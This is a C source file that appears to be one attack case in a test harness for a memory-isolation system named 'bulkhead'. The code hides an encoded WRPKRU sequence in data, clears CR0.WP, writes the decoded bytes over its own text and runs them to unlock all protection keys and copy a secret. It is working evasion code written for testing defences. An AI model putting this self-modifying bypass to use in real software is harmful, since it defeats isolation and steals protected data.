/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Self-modifying code: no byte of the image spells WRPKRU (./bulkhead verify checks), so the attacker
 * keeps `xor ecx,ecx; xor edx,edx; xor eax,eax; wrpkru; ret` XOR-encoded in data, clears CR0.WP, writes
 * the decoded bytes over its own text and calls them: every key opens, and it copies the secret.
 */
#include "loot.h"

static const volatile unsigned char encoded[] = {0x31 ^ 0x5a, 0xc9 ^ 0x5a, 0x31 ^ 0x5a, 0xd2 ^ 0x5a, 0x31 ^ 0x5a,
					0xc0 ^ 0x5a, 0x0f ^ 0x5a, 0x01 ^ 0x5a, 0xef ^ 0x5a, 0xc3 ^ 0x5a};

/* Text of its own to overwrite (never run as it is). */
__attribute__((noinline, used, aligned(16))) void smc_pad(void)
{
	__asm__ volatile(".fill 32, 1, 0x90");
}

const char *attack_name(void) { return "smc: write an encoded WRPKRU into its own text (CR0.WP cleared) and run it"; }

void attack(void)
{
	const volatile char *p = victim_secret_ptr();
	volatile unsigned char *code;
	__asm__ volatile("leaq smc_pad(%%rip), %0" : "=r"(code));
	uint64_t cr0;
	__asm__ volatile("movq %%cr0, %0" : "=r"(cr0));
	__asm__ volatile("movq %0, %%cr0" : : "r"(cr0 & ~(1ull << 16)) : "memory");
	for (unsigned i = 0; i < sizeof(encoded); i++)
		code[i] = encoded[i] ^ 0x5a;
	__asm__ volatile("call *%0" : : "r"(code) : "rax", "rcx", "rdx", "memory");
	attack_take(p);
	attack_not_contained("WRPKRU written into text and run");
}
